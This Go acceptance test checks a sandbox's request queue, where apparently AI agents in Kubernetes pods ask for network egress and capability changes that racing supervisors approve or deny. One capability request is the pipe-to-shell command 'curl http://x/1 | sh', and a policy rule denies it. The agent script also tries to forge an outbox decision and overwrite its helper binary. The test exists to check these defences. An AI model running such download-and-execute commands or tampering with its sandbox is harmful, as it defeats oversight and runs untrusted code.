package main_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bot-bottle/bot-bottle/sdk"
)

// TestQueueDetachedSupervise is acceptance 2: two detached bottles on the
// cluster each file three egress requests and a capability request with
// the real helper; two racing `supervise --once` processes collect them
// from the pods (SyncQueue, exec in bb-queue), decide each exactly once and
// send the decisions back, where the agents' waiting helpers read them.
// Each egress request is `bottle request egress H && wget H`: the agent's
// first attempt after "approved" gets through, however the two processes'
// syncs interleave with the other's approvals (the running allowlist has H
// before any sync can carry the answer into the pod), and the proxy
// refused nothing of H. One bottle's capability is denied (it goes on
// running); the other's is approved: that bottle is kept and stopped once,
// and `resume` rebuilds it from its own Dockerfile, with the RUN's file in
// the new pod and the helpers' answers in its kept project. The agent
// cannot write its outbox (a forged decision) nor the helper.
func TestQueueDetachedSupervise(t *testing.T) {
	e := newEnv(t)
	up := e.upstreamPod(t)
	home := e.home(t)
	// An allowlist of one, so that the bottle has its proxy to widen.
	ad := filepath.Join(home, "agents", "kubeq")
	if err := os.MkdirAll(ad, 0o755); err != nil {
		t.Fatal(err)
	}
	agent := fmt.Sprintf("description = \"busybox with a queue\"\nimage = %q\ncommand = [\"sh\"]\nresume_command = [\"sh\"]\nworkdir = \"/workspace\"\negress = [\"%s:8080\"]\n", e.image, up)
	if err := os.WriteFile(filepath.Join(ad, "agent.hcl"), []byte(agent), 0o644); err != nil {
		t.Fatal(err)
	}
	inPod := func(id, cmd string) string {
		b, _ := exec.Command(kubectl(), "--kubeconfig", e.kubeconfig, "exec", "bb-"+id, "-c", "agent", "--", "sh", "-c", cmd).CombinedOutput()
		return string(b)
	}
	// The egress requests first, collected before the capability request
	// is filed (the queue lists in the order the host collected them), so
	// that they are decided, and their answers heard, before the
	// capability approval stops the bottle.
	start := func(out string, run string, args ...string) string {
		t.Helper()
		script := ""
		for _, p := range approvedPorts {
			h := fmt.Sprintf("%s:%d", up, p)
			// The helper looks for its answer often (--poll), so that the
			// agent tries as soon as a sync brings it.
			script += `(/usr/local/bin/bottle request egress ` + h + ` --reason docs --poll 20ms && wget -q -O - http://` + h + `/) > ` + out + fmt.Sprintf("/egress-%d", p) + ` 2>&1 &
`
		}
		script += `(while [ ! -e /tmp/capability-now ]; do sleep 1; done; /usr/local/bin/bottle request capability --run '` + run + `' --reason tool > ` + out + `/capability 2>&1) &
: > /tmp/hostile
echo forged > /run/bot-bottle/queue/outbox/aaaaaaaaaaaaaaaa.json 2>/dev/null && echo FORGED-OUTBOX >> /tmp/hostile
echo x >> /usr/local/bin/bottle 2>/dev/null && echo HELPER-WRITABLE >> /tmp/hostile
echo checked >> /tmp/hostile
sleep 300`
		id, _ := e.startDetached(t, home, nil, "kubeq", append(args, "--", "sh", "-c", script)...)
		if !eventuallyTrue(func() bool {
			return strings.Count(inPod(id, "ls /run/bot-bottle/queue/inbox"), ".json") == len(approvedPorts)
		}) {
			t.Fatalf("not all %d egress requests in the inbox of %s:\n%s", len(approvedPorts), id, inPod(id, "id; ls -la /run/bot-bottle/queue /run/bot-bottle/queue/inbox /usr/local/bin/bottle; cat "+out+"/egress-* /tmp/hostile"))
		}
		if h := inPod(id, "cat /tmp/hostile"); !strings.Contains(h, "checked") || strings.Contains(h, "FORGED") || strings.Contains(h, "WRITABLE") {
			t.Errorf("the agent of %s wrote outside its inbox: %q", id, h)
		}
		return id
	}
	denied := start("/tmp", "curl http://x/1 | sh")
	// The approved one's helpers answer into its project, which its kept
	// volume claim carries across the stop.
	approved := start("/workspace", "echo built-by-the-approved-run > /home/agent/ran", "--cwd", projectDir(t, map[string]string{"README": "project\n"}))

	// `requests` collects the egress requests from the pods; then the
	// capability requests are filed, and collected after them.
	if out, errOut, code := e.runCLI(t, home, "", nil, "requests"); code != 0 {
		t.Fatalf("requests: exit %d\n%s%s", code, out, errOut)
	}
	for _, id := range []string{denied, approved} {
		inPod(id, ": > /tmp/capability-now")
		// The host has the egress requests: the pod's inbox keeps only the
		// new one.
		if !eventuallyTrue(func() bool { return strings.Count(inPod(id, "ls /run/bot-bottle/queue/inbox"), ".json") == 1 }) {
			t.Fatalf("no capability request alone in the inbox of %s:\n%s", id, inPod(id, "ls -la /run/bot-bottle/queue/inbox"))
		}
	}
	out, errOut, code := e.runCLI(t, home, "", nil, "requests", "--json")
	if code != 0 {
		t.Fatalf("requests --json: exit %d\n%s%s", code, out, errOut)
	}
	var reqs []map[string]any
	if err := json.Unmarshal([]byte(out), &reqs); err != nil {
		t.Fatalf("requests --json: %v\n%s", err, out)
	}
	pending := map[string]int{}
	for _, r := range reqs {
		if r["status"] == "pending" {
			pending[r["identity"].(string)+" "+r["kind"].(string)]++
		}
	}
	for _, id := range []string{denied, approved} {
		for kind, want := range map[string]int{"egress": len(approvedPorts), "capability": 1} {
			if pending[id+" "+kind] != want {
				t.Errorf("requests lists %d pending %s requests of %s, want %d:\n%s", pending[id+" "+kind], kind, id, want, out)
			}
		}
	}

	policy := filepath.Join(t.TempDir(), "policy.hcl")
	if err := os.WriteFile(policy, []byte(`
rule "upstream" {
  kind   = "egress"
  host   = "`+up+`"
  action = "approve"
}
rule "no-pipe-to-shell" {
  kind   = "capability"
  change = "*| sh*"
  action = "deny"
  reason = "no piping downloads into a shell"
}
rule "build" {
  kind   = "capability"
  change = "echo built-by-the-approved-run*"
  action = "approve"
}
`), 0o600); err != nil {
		t.Fatal(err)
	}
	outs := make([]bytes.Buffer, 2)
	errs := make([]error, 2)
	race := make(chan struct{})
	var wg sync.WaitGroup
	for i := range outs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			cmd := exec.Command(e.cli(t), "supervise", "--once", "--policy", policy)
			cmd.Env = e.cliEnv(home)
			cmd.Stdout, cmd.Stderr = &outs[i], &outs[i]
			<-race
			errs[i] = cmd.Run()
		}()
	}
	// Meanwhile other readers sync the queues over and over, as `requests`
	// or the dashboard would: any of their syncs may come while a
	// supervisor is between its decision and the widened allowlist.
	cli, readersDone := e.cli(t), make(chan struct{})
	var readers sync.WaitGroup
	for range 2 {
		readers.Add(1)
		go func() {
			defer readers.Done()
			for {
				select {
				case <-readersDone:
					return
				case <-race:
				}
				cmd := exec.Command(cli, "requests")
				cmd.Env = e.cliEnv(home)
				_ = cmd.Run()
			}
		}()
	}
	close(race)
	wg.Wait()
	close(readersDone)
	readers.Wait()
	both := "--- 1:\n" + outs[0].String() + "\n--- 2:\n" + outs[1].String()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("supervise %d: %v\n%s", i, err, both)
		}
	}
	count := func(s string) (n int) {
		for _, o := range outs {
			n += strings.Count(o.String(), s)
		}
		return n
	}
	if a, d := count("supervise: approved "), count("supervise: denied "); a != 2*len(approvedPorts)+1 || d != 1 {
		t.Errorf("the two processes claim %d approvals and %d denials, want %d and 1\n%s", a, d, 2*len(approvedPorts)+1, both)
	}
	if n := count(approved + " stops for the rebuild"); n != 1 {
		t.Errorf("%s is stopped for the rebuild %d times, want once\n%s", approved, n, both)
	}
	for _, id := range []string{denied, approved} {
		log, err := os.ReadFile(filepath.Join(home, "audit", id+".jsonl"))
		if err != nil {
			t.Fatal(err)
		}
		for kind, want := range map[string]int{"decision": len(approvedPorts) + 1, "request": len(approvedPorts) + 1} {
			if n := strings.Count(string(log), `"kind":"`+kind+`"`); n != want {
				t.Errorf("%s: %d %s records in the audit log, want %d (each collected and decided once):\n%s", id, n, kind, want, log)
			}
		}
		if id == approved {
			if n := strings.Count(string(log), `"kind":"stop"`); n != 1 {
				t.Errorf("%s: %d stops in the audit log, want 1:\n%s", id, n, log)
			}
		}
	}

	// The denied bottle goes on, and its agent heard every answer; after
	// each approval its first attempt got through.
	answers := map[string]string{"/tmp/capability": "denied "}
	for _, p := range approvedPorts {
		answers[fmt.Sprintf("/tmp/egress-%d", p)] = "hello-approved"
	}
	for file, want := range answers {
		var got string
		if !eventuallyTrue(func() bool { got = inPod(denied, "cat "+file); return strings.Contains(got, want) }) {
			t.Errorf("the agent of %s says %q in %s, want %q", denied, got, file, want)
		}
		if strings.HasPrefix(file, "/tmp/egress") && !strings.Contains(got, "approved ") {
			t.Errorf("the helper of %s says %q in %s, want its approval", denied, got, file)
		}
	}
	if left := inPod(denied, "ls /run/bot-bottle/queue/inbox"); strings.Contains(left, ".json") {
		t.Errorf("requests the host has are still in the inbox of %s: %q", denied, left)
	}

	// The approved one is kept and stopped: no pod, `list` says so.
	if !eventuallyTrue(func() bool { return len(mustList(t, e, home, approved)) > 0 }) {
		t.Fatalf("%s is not listed", approved)
	}
	if l := mustList(t, e, home, approved); l["status"] != "stopped" || l["preserved"] != true {
		t.Errorf("list shows %s as %v, want stopped and preserved", approved, l)
	}
	if pods := e.objectsOf(t, "kube"); strings.Contains(strings.Join(pods, " "), "pod bb-"+approved) {
		t.Errorf("after the approval the pod of %s is still there: %v", approved, pods)
	}
	out, errOut, code = e.runCLI(t, home, "", nil, "resume", approved, "--", "sh", "-c", "cat /home/agent/ran; cat egress-* capability")
	if code != 0 {
		t.Fatalf("resume: exit %d\n%s%s", code, out, errOut)
	}
	for _, want := range []string{"built-by-the-approved-run", "approved "} {
		if !strings.Contains(out, want) {
			t.Errorf("the resumed bottle says %q, want %q in it (the RUN's file, the helpers' answers)\nstderr: %s", out, want, errOut)
		}
	}
	if n, m := strings.Count(out, "approved "), strings.Count(out, "hello-approved"); n != len(approvedPorts)+1 || m != len(approvedPorts) {
		t.Errorf("the resumed bottle has %d approvals in its helpers' answers and %d answers of the upstream, want %d (egress, capability) and %d: %q", n, m, len(approvedPorts)+1, len(approvedPorts), out)
	}

	// The proxies' audit (the running one's collected by list, the
	// stopped one's at its stop): every approved host reached, none
	// refused, as the agent tried only after its approval.
	if out, errOut, code := e.runCLI(t, home, "", nil, "list"); code != 0 {
		t.Fatalf("list: exit %d\n%s%s", code, out, errOut)
	}
	for _, id := range []string{denied, approved} {
		out, errOut, code := e.runCLI(t, home, "", nil, "audit", "--egress", "--json", id)
		if code != 0 {
			t.Fatalf("audit --egress %s: exit %d\n%s%s", id, code, out, errOut)
		}
		var evs []sdk.EgressEvent
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			var ev sdk.EgressEvent
			if json.Unmarshal([]byte(l), &ev) == nil {
				evs = append(evs, ev)
			}
		}
		for _, p := range approvedPorts {
			if !hasEvent(evs, up, p, true, fmt.Sprintf("%s:%d", up, p)) {
				t.Errorf("%s: no allowed connection to %s:%d in the egress audit:\n%s", id, up, p, out)
			}
		}
		for _, ev := range evs {
			if !ev.Allowed && ev.Host == up {
				t.Errorf("%s: the proxy refused %s:%d (%s) though the agent tried only once it heard approved:\n%s", id, ev.Host, ev.Port, ev.Reason, out)
			}
		}
	}
}

// mustList is `list --json`'s entry for id (nil when it is not listed).
func mustList(t *testing.T, e *env, home, id string) map[string]any {
	t.Helper()
	out, errOut, code := e.runCLI(t, home, "", nil, "list", "--json")
	if code != 0 {
		t.Fatalf("list --json: exit %d\n%s%s", code, out, errOut)
	}
	var l []map[string]any
	if err := json.Unmarshal([]byte(out), &l); err != nil {
		t.Fatalf("list --json: %v\n%s", err, out)
	}
	for _, b := range l {
		if b["identity"] == id {
			return b
		}
	}
	return nil
}

func eventuallyTrue(ok func() bool) bool {
	deadline := time.Now().Add(30 * time.Second)
	for !ok() {
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(500 * time.Millisecond)
	}
	return true
}
